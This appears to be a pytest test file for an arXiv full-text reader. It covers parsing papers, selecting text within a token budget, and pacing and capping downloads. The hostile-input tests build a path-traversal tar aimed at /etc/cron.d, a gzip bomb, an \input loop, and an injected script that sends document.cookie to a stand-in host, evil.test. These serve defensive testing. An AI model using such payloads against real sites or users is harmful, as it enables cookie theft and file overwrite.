"""Full text: thirteen real arXiv papers read from their LaTeXML HTML and their TeX source, selected within a
token budget, hostile archives refused with one line each, downloads paced, capped and kept."""

from __future__ import annotations

import asyncio
import gzip
import io
import json
import re
import tarfile
from collections.abc import AsyncIterator, Iterator
from functools import cache
from pathlib import Path

import httpx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from summarizer.core.errors import FullTextUnusable
from summarizer.core.fulltext.archive import Limits, unpack_eprint
from summarizer.core.fulltext.document import Document, Section
from summarizer.core.fulltext.html import document_from_html
from summarizer.core.fulltext.select import select_text
from summarizer.core.fulltext.tex import document_from_tex
from summarizer.core.models import Paper
from summarizer.core.settings import ArxivSettings
from summarizer.edges.arxiv.fetch import ArxivPace
from summarizer.edges.arxiv.fulltext import FullTextFetcher, FullTextStore
from summarizer.edges.llm.pacing import count_tokens
from tests.conftest import ROOT
from tests.fakes import Sleeps

FULLTEXT = ROOT / "fixtures" / "fulltext"
PAPERS = {p["id"]: p for p in json.loads((FULLTEXT / "papers.json").read_text())}
WITH_HTML = sorted(i for i in PAPERS if (FULLTEXT / i / "paper.html.gz").exists())
WITH_TABLES = {"html": {"1307.6212", "1410.2597", "1703.09710", "1801.02634", "2503.17247"},
               "tex": {"1307.6212", "1410.2597", "1907.10121", "2503.17247"}}
MATH = {i for i, p in PAPERS.items() if p["primary"].startswith("math")}


def count(text: str) -> int:
    return count_tokens(text, "gpt-4o-mini")


@cache
def html_doc(paper_id: str) -> Document:
    return document_from_html(gzip.decompress((FULLTEXT / paper_id / "paper.html.gz").read_bytes()))[0]


@cache
def tex_doc(paper_id: str) -> Document:
    return document_from_tex(unpack_eprint((FULLTEXT / paper_id / "e-print").read_bytes(), Limits()))


def test_the_fixtures_span_four_archives_and_ten_papers_with_html() -> None:
    archives = {p["primary"].split(".")[0] for p in PAPERS.values()} | {"stat"}  # math.ST is also stat.TH
    assert {"math", "cs", "astro-ph", "stat"} <= archives and len(WITH_HTML) >= 10 and len(PAPERS) == 13


@pytest.mark.parametrize(("kind", "paper_id"), [("html", i) for i in WITH_HTML] + [("tex", i) for i in sorted(PAPERS)])
def test_a_real_paper_reads_as_sections_tables_and_math_without_references(kind: str, paper_id: str) -> None:
    doc = html_doc(paper_id) if kind == "html" else tex_doc(paper_id)
    headings = [s.heading for s in doc.sections]
    assert len([h for h in headings if h]) >= 2 and doc.words > 2000
    assert doc.title and doc.abstract
    assert not any(re.search(r"^(references|bibliography)$", h, re.I) for h in headings)
    text = "\n".join(p for s in doc.sections for p in s.paragraphs)
    assert "\\bibitem" not in text and "ltx_bib" not in text
    if paper_id in WITH_TABLES[kind]:
        assert re.search(r"^[^\n|]+( \| [^\n|]*)+$", text, re.M), "a table as rows of cells"
    if paper_id in MATH:
        assert re.search(r"\$[^$]*\\[a-zA-Z]+[^$]*\$", text), "math kept as its LaTeX source"


def test_the_bibliography_of_the_html_is_left_out() -> None:
    page = gzip.decompress((FULLTEXT / "1410.2597" / "paper.html.gz").read_bytes()).decode()
    cited = re.findall(r'class="ltx_text ltx_bib_title">([^<]{25,})<', page)
    assert cited
    text = "\n".join(p for s in html_doc("1410.2597").sections for p in s.paragraphs)
    assert len(cited) > 20 and not any(c.strip()[:25] in text for c in cited)


@pytest.mark.parametrize("paper_id", ["1410.2597", "2008.10111", "1801.02634"])
def test_the_selection_holds_each_budget_abstract_and_introduction_first(paper_id: str) -> None:
    doc = html_doc(paper_id)
    shown: list[int] = []
    for budget in (3_000, 12_000, 60_000):
        chosen = select_text(doc, doc.abstract, budget, count)
        assert chosen.tokens == count(chosen.text) <= budget
        assert chosen.text.startswith("Abstract\n" + doc.abstract)
        assert "## Introduction" in chosen.text
        shown.append(len(chosen.sections))
    assert shown[0] < shown[1] <= shown[2]


def test_a_small_budget_prefers_results_and_tables_to_the_appendix() -> None:
    doc = html_doc("1410.2597")
    chosen = select_text(doc, doc.abstract, 12_000, count)
    assert "Table:" in chosen.text
    assert not any(s.lower().startswith(("appendix", "acknowledg")) for s in chosen.sections)


def test_the_results_come_before_the_rest_of_the_method() -> None:
    """Method sections usually stand before the results: taken in order they filled the budget, and a real
    paper's Performance section (1703.09710) was cut to its first paragraph, its numbers left out."""
    words = " ".join(["word"] * 95)
    doc = Document(title="T", abstract="A short abstract.", sections=[
        Section(heading="Introduction", paragraphs=[f"Intro {words}."]),
        Section(heading="Method", paragraphs=[f"Method overview {words}.", f"Method detail {words}.",
                                              f"Method proof {words}."]),
        Section(heading="Model design", paragraphs=[f"Design overview {words}.", f"Design detail {words}."]),
        Section(heading="Experiments", paragraphs=[f"Setup {words}.", f"Accuracy reaches 87.2% {words}."]),
        Section(heading="Conclusion", paragraphs=[f"We conclude {words}."])])
    chosen = select_text(doc, doc.abstract, 600, count)
    assert "Accuracy reaches 87.2%" in chosen.text and "Setup" in chosen.text  # the results whole
    assert "Method overview" in chosen.text and "Design overview" in chosen.text  # each method part named
    assert "Method detail" not in chosen.text and "Design detail" not in chosen.text
    assert chosen.sections == ["Introduction", "Method", "Model design", "Experiments"]  # in the paper's order
    roomy = select_text(doc, doc.abstract, 2_000, count)
    assert all(p in roomy.text for s in doc.sections for p in s.paragraphs)


# Hostile archives: each is refused with one line naming why


def tar_gz(members: dict[str, bytes]) -> bytes:
    """An e-print as arXiv packs one: a gzipped tar of the given members."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


HOSTILE = {
    "tar with ../": (tar_gz({"../../etc/cron.d/x.tex": b"\\documentclass{article}"}), "points outside its folder"),
    "absolute path": (tar_gz({"/tmp/evil.tex": b"x"}), "points outside its folder"),
    "zip bomb": (gzip.compress(b"\0" * 5_000_000), "unpacks to more than 1 MB"),
    "input loop": (tar_gz({"main.tex": b"\\documentclass{article}\\begin{document}\\input{b}\\end{document}",
                         "b.tex": b"\\input{main}"}), "\\input loop: main.tex -> b.tex -> main.tex"),
    "pdf": (b"%PDF-1.5\n...", "is a PDF"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_hostile_archive_is_refused_with_one_line(case: str) -> None:
    data, reason = HOSTILE[case]
    with pytest.raises(FullTextUnusable) as refused:
        document_from_tex(unpack_eprint(data, Limits(unpacked_bytes=1_000_000)))
    assert reason in str(refused.value) and "\n" not in str(refused.value)


def test_html_with_script_is_read_never_run_and_says_so() -> None:
    page = gzip.decompress((FULLTEXT / "2405.16513" / "paper.html.gz").read_bytes())
    hostile = page.replace(b"</head>", b"<script>fetch('https://evil.test/'+document.cookie)</script></head>", 1)
    hostile = hostile.replace(b"<body>", b'<body onload="alert(1)"><iframe src="https://evil.test"></iframe>', 1)
    doc, notes = document_from_html(hostile)
    text = "\n".join(p for s in doc.sections for p in s.paragraphs)
    assert "evil.test" not in text and "document.cookie" not in text
    assert notes == ["dropped 1 <script> element(s) of the page, never run"]
    assert doc.words == html_doc("2405.16513").words


# Downloads: paced with the listing, capped, retried as asked, kept


def _paper(paper_id: str = "2405.16513", version: int | None = 2) -> Paper:
    return Paper(id=paper_id, version=version, title="t", abstract="a", primary_category="math.SG",
                 abs_url=f"https://arxiv.org/abs/{paper_id}")


@pytest.fixture
def store(tmp_path: Path) -> Iterator[FullTextStore]:
    kept = FullTextStore(tmp_path)
    yield kept
    kept.close()


def _fetcher(handler: httpx.MockTransport, store: FullTextStore, sleeps: Sleeps, max_bytes: int = 50_000_000,
             clock: list[float] | None = None) -> tuple[FullTextFetcher, httpx.AsyncClient]:
    settings = ArxivSettings(contact="reader@example.org", retry_backoff_seconds=0.01)
    client = httpx.AsyncClient(transport=handler)
    times = clock if clock is not None else [0.0]
    pace = ArxivPace(settings.delay_seconds, sleeps, lambda: times[0])
    return FullTextFetcher(settings, client, pace, store, max_bytes, sleeps), client


def test_a_download_is_retried_as_arxiv_asks_then_kept(store: FullTextStore) -> None:
    async def go() -> None:
        seen: list[httpx.Request] = []

        def answer(request: httpx.Request) -> httpx.Response:
            seen.append(request)
            if len(seen) == 1:  # arXiv's throttling answer (export.arxiv.org: "Rate exceeded.", Retry-After)
                return httpx.Response(429, text="Rate exceeded.", headers={"Retry-After": "5"})
            return httpx.Response(200, content=b"<html>page</html>")

        sleeps = Sleeps()
        fetcher, client = _fetcher(httpx.MockTransport(answer), store, sleeps)
        async with client:
            assert await fetcher.html(_paper()) == b"<html>page</html>"
            assert await fetcher.html(_paper()) == b"<html>page</html>"  # a re-run downloads nothing
        assert [str(r.url) for r in seen] == ["https://arxiv.org/html/2405.16513v2"] * 2
        assert "reader@example.org" in seen[0].headers["user-agent"]
        assert any(s >= 5 for s in sleeps.calls)
        assert fetcher.stats.requests == 2 and fetcher.stats.from_cache == 1

    asyncio.run(go())


def test_a_404_is_kept_as_absent_and_a_paper_without_version_asks_for_the_newest(store: FullTextStore) -> None:
    async def go() -> None:
        seen: list[str] = []

        def answer(request: httpx.Request) -> httpx.Response:
            seen.append(str(request.url))
            return httpx.Response(404, text="No HTML for '2405.16513'")

        fetcher, client = _fetcher(httpx.MockTransport(answer), store, Sleeps())
        async with client:
            for _ in range(2):
                with pytest.raises(FullTextUnusable, match="not on arXiv"):
                    await fetcher.eprint(_paper(version=None))
        assert seen == ["https://arxiv.org/e-print/2405.16513"]

    asyncio.run(go())


def test_a_200_mb_source_stops_at_the_cap_declared_or_streamed(store: FullTextStore) -> None:
    async def go() -> None:
        async def chunks() -> AsyncIterator[bytes]:
            for _ in range(200):
                yield b"\0" * 1_000_000  # 200 MB, never held: the reading stops past the cap

        def answer(request: httpx.Request) -> httpx.Response:
            if "html" in request.url.path:
                return httpx.Response(200, headers={"Content-Length": "200000000"}, content=b"")
            return httpx.Response(200, content=chunks())

        fetcher, client = _fetcher(httpx.MockTransport(answer), store, Sleeps(), max_bytes=2_000_000)
        async with client:
            with pytest.raises(FullTextUnusable, match="larger than 2 MB"):
                await fetcher.html(_paper())
            with pytest.raises(FullTextUnusable, match="larger than 2 MB"):
                await fetcher.eprint(_paper())

    asyncio.run(go())


def test_requests_share_the_listings_pace(store: FullTextStore) -> None:
    async def go() -> None:
        clock = [100.0]
        sleeps = Sleeps()
        fetcher, client = _fetcher(httpx.MockTransport(lambda r: httpx.Response(200, content=b"x")), store, sleeps,
                                   clock=clock)
        async with client:
            await fetcher.html(_paper())
            await fetcher.eprint(_paper())
        assert sleeps.calls == [3.0]  # the second waited arXiv's 3 seconds after the first


    asyncio.run(go())


@given(st.binary(max_size=2000))
@settings(max_examples=60, deadline=None)
def test_any_bytes_as_an_e_print_or_a_page_give_a_document_or_one_line(data: bytes) -> None:
    for read in (lambda: document_from_tex(unpack_eprint(data, Limits(unpacked_bytes=100_000))),
                 lambda: document_from_html(data)):
        try:
            read()
        except FullTextUnusable as exc:
            assert "\n" not in str(exc)


@given(st.text(max_size=400))
@settings(max_examples=60, deadline=None)
def test_any_tex_reads_without_an_unforeseen_error(body: str) -> None:
    source = f"\\documentclass{{article}}\\begin{{document}}\\section{{A}}{body}\\end{{document}}".encode()
    try:
        document_from_tex({"main.tex": source})
    except FullTextUnusable as exc:
        assert "\n" not in str(exc)
